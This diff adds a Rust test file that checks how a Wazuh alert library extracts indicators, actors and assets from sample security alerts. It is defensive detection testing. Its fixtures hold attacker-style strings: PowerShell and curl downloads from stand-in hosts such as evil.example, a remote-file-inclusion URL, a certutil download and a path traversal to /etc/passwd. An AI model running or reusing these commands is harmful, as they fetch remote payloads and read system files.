@@ -1,0 +1,395 @@
+//! What an alert is about: who did what to what, on what, and what to look for elsewhere.
+
+#![allow(clippy::unwrap_used, reason = "only tests")]
+#![allow(clippy::too_many_lines, reason = "tables of alerts")]
+
+mod corpus;
+
+use std::collections::HashSet;
+
+use serde_json::{Value, json};
+use wazuh_model::{Alert, IndicatorKind, Os, OwnNetworks, Scope, UserPart};
+
+fn alert(value: &Value) -> Alert {
+    Alert::from_slice(value.to_string().as_bytes()).unwrap()
+}
+
+fn labelled(kind: &str) -> Alert {
+    let found = corpus::labelled().into_iter().find(|(name, _)| name == kind);
+    Alert::from_slice(&found.unwrap().1).unwrap()
+}
+
+fn indicators_of(value: &Value) -> Vec<(&'static str, String)> {
+    let found = alert(value).indicators(&OwnNetworks::none());
+    found
+        .into_iter()
+        .map(|one| (one.kind.iris_type_name(), one.value))
+        .collect()
+}
+
+fn expect(value: &Value, expected: &[(&str, &str)]) {
+    let expected: Vec<_> = expected
+        .iter()
+        .map(|(kind, value)| (*kind, (*value).to_owned()))
+        .collect();
+    assert_eq!(indicators_of(value), expected, "{value}");
+}
+
+const MD5: &str = "087875b45857b2a20d4d64230ad402a4";
+const SHA1: &str = "d12041b8d3c993c94f8e3987f57946d1dae36728";
+const SHA256: &str = "31959c926cba0dae9dbfae47aee2ce00a2d41b0871b150d8551fe54049589d1c";
+
+#[test]
+fn every_family_gives_its_indicators() {
+    let eventdata =
+        |data: Value| json!({"data": {"win": {"system": {"computer": "WS-1.corp.example"}, "eventdata": data}}});
+    // Sysmon: each hash apart, the far end, what a command line names.
+    expect(
+        &eventdata(
+            json!({"hashes": format!("SHA1={},MD5={},SHA256={},IMPHASH={}", SHA1.to_uppercase(), MD5, SHA256, MD5.replace('0', "1"))}),
+        ),
+        &[
+            ("sha1", SHA1),
+            ("md5", MD5),
+            ("sha256", SHA256),
+            ("imphash", &MD5.replace('0', "1")),
+        ],
+    );
+    expect(
+        &eventdata(
+            json!({"sourceIp": "10.0.0.1", "destinationIp": "203.0.113.9", "destinationHostname": "Evil.Example.", "destinationPort": "443"}),
+        ),
+        &[("ip-dst", "203.0.113.9"), ("domain", "evil.example")],
+    );
+    expect(
+        &eventdata(
+            json!({"queryName": "c2.evil.example", "queryResults": "type:  5 x.example;::ffff:203.0.113.9;10.0.0.1;"}),
+        ),
+        &[("domain", "c2.evil.example"), ("ip-dst", "203.0.113.9")],
+    );
+    expect(
+        &eventdata(
+            json!({"commandLine": "powershell iwr \\\"http://203.0.113.66:8080/a.ps1?x=1&amp;y=2\\\" -o C:\\\\a; ping 198.51.100.4; curl https://evil.example/x"}),
+        ),
+        &[
+            ("ip-dst", "203.0.113.66"),
+            ("url", "http://203.0.113.66:8080/a.ps1?x=1&y=2"),
+            ("domain", "evil.example"),
+            ("url", "https://evil.example/x"),
+            ("ip-dst", "198.51.100.4"),
+        ],
+    );
+    expect(
+        &eventdata(json!({"targetFilename": "C:\\\\Users\\\\x\\\\invoice.pdf.exe"})),
+        &[("filename", "invoice.pdf.exe")],
+    );
+    expect(
+        &eventdata(json!({"ipAddress": "::ffff:203.0.113.9", "ipPort": "50123", "targetUserName": "j.doe"})),
+        &[("ip-src", "203.0.113.9")],
+    );
+    // FIM: what is there now, not what was there before.
+    expect(
+        &json!({"syscheck": {"path": "/srv/www/shell.php", "event": "added", "md5_before": MD5.replace('0', "1"), "md5_after": MD5, "sha1_after": SHA1, "sha256_after": SHA256}}),
+        &[
+            ("filename", "shell.php"),
+            ("md5", MD5),
+            ("sha1", SHA1),
+            ("sha256", SHA256),
+        ],
+    );
+    expect(
+        &json!({"syscheck": {"path": "/etc/passwd", "event": "modified", "md5_after": MD5}}),
+        &[("md5", MD5)],
+    );
+    // Network.
+    expect(
+        &json!({"data": {"srcip": "203.0.113.7", "dstip": "10.0.0.5", "srcuser": "root"}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"src_ip": "10.0.0.5", "src_port": "50000", "dest_ip": "203.0.113.7", "dest_port": "80", "http": {"hostname": "evil.example", "url": "/gate.php"}, "tls": {"ja3": {"hash": MD5}}}}),
+        &[
+            ("ip-dst", "203.0.113.7"),
+            ("domain", "evil.example"),
+            ("url", "http://evil.example/gate.php"),
+        ],
+    );
+    expect(
+        &json!({"data": {"src_ip": "203.0.113.7", "src_port": "50000", "dest_ip": "10.0.0.5", "dest_port": "80", "http": {"hostname": "shop.corp.example", "url": "/x"}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"srcip": "203.0.113.7", "url": "/a.php?u=http://evil.example/shell.txt"}}),
+        &[
+            ("ip-src", "203.0.113.7"),
+            ("domain", "evil.example"),
+            ("url", "http://evil.example/shell.txt"),
+        ],
+    );
+    // Clouds.
+    expect(
+        &json!({"data": {"aws": {"sourceIPAddress": "203.0.113.7", "eventName": "x", "responseElements": {"publicIp": "8.8.8.8"}}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"aws": {"sourceIPAddress": "cloudtrail.amazonaws.com", "eventName": "x"}}}),
+        &[],
+    );
+    expect(
+        &json!({"data": {"office365": {"ClientIP": "203.0.113.7:50123", "UserId": "a@corp.example"}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"office365": {"P1Sender": "Eve <eve@evil.example>", "SenderIp": "203.0.113.7"}}}),
+        &[("email", "eve@evil.example"), ("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"gcp": {"protoPayload": {"requestMetadata": {"callerIp": "203.0.113.7"}}}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    expect(
+        &json!({"data": {"ms-graph": {"ipAddress": "203.0.113.7"}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    // Modules.
+    expect(
+        &json!({"data": {"virustotal": {"source": {"file": "/x/eicar.com", "md5": MD5, "sha1": SHA1}, "sha1": SHA1, "permalink": "https://www.virustotal.com/x"}}}),
+        &[("filename", "eicar.com"), ("md5", MD5), ("sha1", SHA1)],
+    );
+    expect(
+        &json!({"data": {"vulnerability": {"cve": "CVE-2024-1", "reference": "https://nvd.example/x", "package": {"version": "1.2.3.4"}}}}),
+        &[],
+    );
+    expect(
+        &json!({"data": {"audit": {"exe": "/usr/bin/curl", "addr": "203.0.113.7", "execve": {"a0": "curl"}}}}),
+        &[("ip-src", "203.0.113.7")],
+    );
+    // Wazuh 5.
+    expect(
+        &json!({"wazuh": {"rule": {"id": "x"}, "agent": {"id": "1", "host": {"ip": ["8.8.8.8"]}}}, "source": {"ip": "203.0.113.7"}, "destination": {"ip": "198.51.100.1"}, "host": {"ip": "8.8.4.4"}, "file": {"hash": {"md5": MD5}}, "process": {"command_line": "curl http://evil.example/"}, "dns": {"question": {"name": "evil2.example"}}}),
+        &[
+            ("ip-src", "203.0.113.7"),
+            ("ip-dst", "198.51.100.1"),
+            ("md5", MD5),
+            ("domain", "evil.example"),
+            ("url", "http://evil.example/"),
+            ("domain", "evil2.example"),
+        ],
+    );
+}
+
+#[test]
+fn what_is_ones_own_or_nobodys_is_no_indicator() {
+    for ip in [
+        "10.1.2.3",
+        "172.16.0.1",
+        "192.168.0.1",
+        "100.64.0.1",
+        "127.0.0.1",
+        "169.254.169.254",
+        "0.0.0.0",
+        "224.0.0.1",
+        "::1",
+        "fe80::1",
+        "fd00::1",
+        "-",
+        "any",
+        "not-an-ip",
+    ] {
+        expect(&json!({"data": {"srcip": ip}}), &[]);
+    }
+    let own = OwnNetworks::new(["8.8.8.0/24".parse().unwrap()], ["corp.example"]);
+    let mine = alert(
+        &json!({"agent": {"id": "001", "ip": "9.9.9.9"}, "data": {"srcip": "8.8.8.8", "dstip": "9.9.9.9", "url": "https://intranet.corp.example/x", "sender": "a@corp.example"}}),
+    );
+    assert_eq!(mine.indicators(&own), []);
+    let machine = json!({"data": {"win": {"system": {"computer": "WS-1.ad.corp.test-org.com"}, "eventdata": {"queryName": "dc01.ad.corp.test-org.com"}}}});
+    expect(&machine, &[]);
+    let documented =
+        alert(&json!({"data": {"srcip": "203.0.113.7", "dstip": "8.8.8.8"}})).indicators(&OwnNetworks::none());
+    assert_eq!(
+        (documented[0].scope, documented[1].scope),
+        (Some(Scope::Documentation), Some(Scope::Public))
+    );
+}
+
+#[test]
+fn what_only_looks_like_a_hash_is_none() {
+    let zeros = "0".repeat(32);
+    for hashes in [
+        "MD5=",
+        "MD5=xyz",
+        "SHA1=087875b45857b2a20d4d64230ad402",
+        &format!("MD5={zeros},IMPHASH={zeros}"),
+        "MD5=d41d8cd98f00b204e9800998ecf8427e",
+        &format!("VHASH={MD5}"),
+    ] {
+        expect(&json!({"data": {"win": {"eventdata": {"hashes": hashes}}}}), &[]);
+    }
+    // A request id is as long as a hash.
+    expect(
+        &json!({"data": {"aws": {"requestID": MD5, "eventID": SHA1}, "id": MD5}}),
+        &[],
+    );
+}
+
+#[test]
+fn nothing_is_found_twice_in_any_alert() {
+    for (name, line) in corpus::all() {
+        let found = Alert::from_slice(&line).unwrap().indicators(&OwnNetworks::none());
+        let distinct: HashSet<_> = found.iter().map(|one| (one.kind, one.value.clone())).collect();
+        assert_eq!(distinct.len(), found.len(), "{name}");
+        let addresses: Vec<_> = found
+            .iter()
+            .filter(|one| one.scope.is_some())
+            .map(|one| &one.value)
+            .collect();
+        assert_eq!(
+            addresses.iter().collect::<HashSet<_>>().len(),
+            addresses.len(),
+            "one address at both ends: {name}"
+        );
+        for one in &found {
+            match one.kind {
+                IndicatorKind::IpSrc | IndicatorKind::IpDst | IndicatorKind::Ip => {
+                    assert!(one.scope.unwrap().is_foreign())
+                }
+                IndicatorKind::Md5 | IndicatorKind::Imphash => assert_eq!(one.value.len(), 32),
+                IndicatorKind::Sha1 => assert_eq!(one.value.len(), 40),
+                IndicatorKind::Sha256 => assert_eq!(one.value.len(), 64),
+                _ => assert!(!one.value.is_empty()),
+            }
+        }
+    }
+}
+
+#[test]
+fn actors_of_a_process_are_its_whole_family() {
+    let alert = labelled("certutil_download");
+    let actors = alert.actors();
+    let process = actors.process.as_ref().unwrap();
+    assert_eq!(process.image.as_deref(), Some(r"C:\Windows\System32\certutil.exe"));
+    assert_eq!(process.id.as_deref(), Some("4060"));
+    assert!(process.command_line.as_ref().unwrap().contains("-urlcache"));
+    assert_eq!(
+        actors.parent.as_ref().unwrap().image.as_deref(),
+        Some(r"C:\Windows\System32\cmd.exe")
+    );
+    assert_eq!(actors.user().unwrap().name, r"CORP\m.lee");
+    assert_eq!(actors.urls, ["http://198.51.100.23/u.dat"]);
+}
+
+#[test]
+fn actors_of_a_log_on_are_who_and_from_where() {
+    let alert = labelled("rdp_bruteforce_external");
+    let actors = alert.actors();
+    assert_eq!(
+        (actors.sources[0].ip.as_deref(), actors.sources[0].host.as_deref()),
+        (Some("198.51.100.77"), Some("KALI"))
+    );
+    let user = actors.user().unwrap();
+    assert_eq!(
+        (user.name.as_ref(), user.domain.as_deref(), user.part),
+        ("administrator", Some("CORP"), UserPart::Target)
+    );
+    let success = labelled("rdp_loopback");
+    assert_eq!(
+        success.actors().user().unwrap().name,
+        "adm.smith",
+        "the machine account is nobody's name"
+    );
+    let ssh = alert_of_ssh();
+    let actors = ssh.actors();
+    assert_eq!(
+        (actors.sources[0].ip.as_deref(), actors.sources[0].port),
+        (Some("203.0.113.7"), Some(4022))
+    );
+    assert_eq!(
+        actors.users.iter().map(|user| user.name.as_ref()).collect::<Vec<_>>(),
+        ["admin"]
+    );
+}
+
+fn alert_of_ssh() -> Alert {
+    alert(
+        &json!({"decoder": {"name": "sshd"}, "data": {"srcip": "203.0.113.7", "srcport": "4022", "srcuser": "admin"}}),
+    )
+}
+
+#[test]
+fn actors_tell_accounts_groups_registry_and_requests_apart() {
+    let group = labelled("admin_group_add");
+    assert_eq!(
+        group
+            .actors()
+            .users
+            .iter()
+            .map(|user| user.name.as_ref())
+            .collect::<Vec<_>>(),
+        ["adm.smith"],
+        "a group is no user"
+    );
+    let registry = labelled("fim_registry_tz");
+    assert!(registry.actors().files.is_empty() && registry.actors().registry.len() == 1);
+    let run_key = labelled("run_key_public_vbs");
+    assert!(run_key.actors().registry[0].ends_with(r"Run\Updater"));
+    let file = labelled("fim_sshd_by_curl");
+    let actors = file.actors();
+    assert_eq!(
+        (actors.files[0].as_ref(), actors.process.unwrap().image.as_deref()),
+        ("/usr/sbin/sshd", Some("/usr/bin/curl"))
+    );
+    let request = labelled("traversal_403");
+    assert_eq!(request.actors().urls, ["/..%2f..%2f..%2fetc/passwd"]);
+    let key = labelled("aws_access_key_created");
+    let actors = key.actors();
+    assert!(
+        actors
+            .users
+            .iter()
+            .any(|user| user.name == "breakglass-admin" && user.part == UserPart::Target),
+        "who is not the caller"
+    );
+    let root = labelled("aws_root_login_no_mfa");
+    assert!(root.actors().user().unwrap().name.ends_with(":root"));
+    let record = alert(
+        &json!({"data": {"audit": {"exe": "/usr/bin/curl", "command": "curl", "execve": {"a0": "curl", "a1": "http://203.0.113.9/x"}, "file": {"name": "/tmp/x"}}}}),
+    );
+    let actors = record.actors();
+    assert_eq!(
+        actors.process.unwrap().command_line.as_deref(),
+        Some("curl http://203.0.113.9/x")
+    );
+    assert_eq!((actors.urls.len(), actors.files.len()), (1, 1));
+    assert_eq!(
+        indicators_of(record.value()),
+        [
+            ("ip-dst", "203.0.113.9".to_owned()),
+            ("url", "http://203.0.113.9/x".to_owned())
+        ]
+    );
+    let access = alert(
+        &json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Sysmon", "eventID": "10"}, "eventdata": {"sourceImage": "C:\\\\a.exe", "targetImage": "C:\\\\lsass.exe", "targetUser": "NT AUTHORITY\\\\SYSTEM"}}}}),
+    );
+    assert_eq!(access.actors().target.unwrap().image.as_deref(), Some(r"C:\lsass.exe"));
+}
+
+#[test]
+fn the_agent_is_the_asset_unless_it_is_the_manager() {
+    let alert = labelled("certutil_download");
+    let assets = alert.assets();
+    assert_eq!(
+        (assets[0].name.as_str(), assets[0].ip.as_deref(), assets[0].os),
+        ("WS-HR-007", Some("10.20.4.77"), Some(Os::Windows))
+    );
+    assert_eq!(assets[0].agent_id.as_deref(), Some("006"));
+    assert_eq!(labelled("sudo_apt_upgrade").assets()[0].os, Some(Os::Linux));
+    assert_eq!(labelled("agent_disconnected").assets(), []);
+    assert_eq!(alert_of_ssh().assets(), []);
+    let agentless =
+        Alert::from_slice(br#"{"agentless":{"script":"ssh_integrity","user":"root","host":"root@fw1"}}"#).unwrap();
+    assert_eq!(
+        (agentless.assets()[0].name.as_str(), agentless.assets().len()),
+        ("fw1", 1)
+    );
+}
